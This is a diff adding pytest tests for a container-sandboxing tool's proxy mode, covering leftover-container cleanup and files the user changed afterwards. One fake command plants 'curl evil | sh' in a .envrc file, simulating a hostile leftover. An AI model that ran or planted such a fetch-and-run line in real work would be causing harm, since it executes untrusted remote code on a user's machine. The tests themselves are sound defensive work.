@@ -3,6 +3,7 @@ import json
 import os
 import socket
 import subprocess
+import threading
 
 import pytest
 
@@ -97,3 +98,63 @@ def test_a_socket_that_is_missing_or_closed_ends_it_before_the_engine(host, list
     assert remote.code == 125 and "no unix socket of this machine" in remote.err
     assert host.run("--testcontainers=all", ".").code == 2
     assert host.fakes.calls == []
+
+
+@pytest.fixture
+def mute(host, listener):
+    """An engine's socket behind which every connection is closed without a word."""
+    with socket.socket(socket.AF_UNIX) as closing:
+        listener.unlink()
+        closing.bind(str(listener))
+        closing.listen(8)
+        give(host, listener)
+
+        def serve() -> None:
+            while True:
+                try:
+                    closing.accept()[0].close()
+                except OSError:
+                    return
+
+        threading.Thread(target=serve, daemon=True).start()
+        yield
+
+
+LEFT = "c" * 64
+
+
+@pytest.mark.parametrize("kept", [False, True])
+def test_what_the_proxy_cannot_remove_is_told_and_removed_later(host, mute, kept):
+    """Its exit status was not looked at: with the session went all that anybody knew of it."""
+    if kept:
+        host.fakes.on("run", "/bin/mkdir -p .envrc.d; echo 'curl evil | sh' >.envrc")
+    result = host.run("--testcontainers=proxy", ".", timeout=60)
+    (session,) = host.sessions
+    assert "Not all that this jail made through --testcontainers=proxy is removed" in result.err and f"jailed.sibling={session}" in result.err
+    other = host.mkdir("other")
+    host.fakes.on("run", "exit 0")
+    host.fakes.on("ps", f'case " $* " in *" label=jailed.sibling={session} "*) [ -e "$fake/gone" ] || echo {LEFT};; esac')
+    host.fakes.on("rm", "echo 'device or resource busy' >&2; exit 1")
+    result = host.run(other, "--", "true")
+    assert (result.code, host.sessions) == (0, [session]) and "device or resource busy" in result.err
+    host.fakes.on("rm", 'echo >"$fake/gone"')
+    result = host.run(other, "--", "true")
+    assert result.code == 0 and "testcontainers" not in result.err
+    assert any(call.args == ["rm", "--force", "--volumes", LEFT] for call in host.fakes.calls)
+    assert not any((host.config / "sessions").rglob("docker.sock"))
+    assert host.sessions == ([session] if kept else [])
+
+
+def test_a_file_that_the_user_changed_since_is_not_taken_for_the_jails(host, mute):
+    host.run("--testcontainers=proxy", ".", timeout=60)
+    (host.project / ".envrc").write_text("mine")
+    assert ".envrc" not in host.run(host.mkdir("other"), "--", "true").err
+    assert (host.project / ".envrc").read_text() == "mine" and host.sessions == []
+
+
+def test_what_another_engine_has_is_not_taken_for_removed(host, mute):
+    host.run("--testcontainers=proxy", ".", timeout=60)
+    (session,) = host.sessions
+    host.fakes.add("podman")
+    result = host.run("--runtime", "podman", host.mkdir("other"), "--", "true")
+    assert host.sessions == [session] and "is with another engine" in result.err
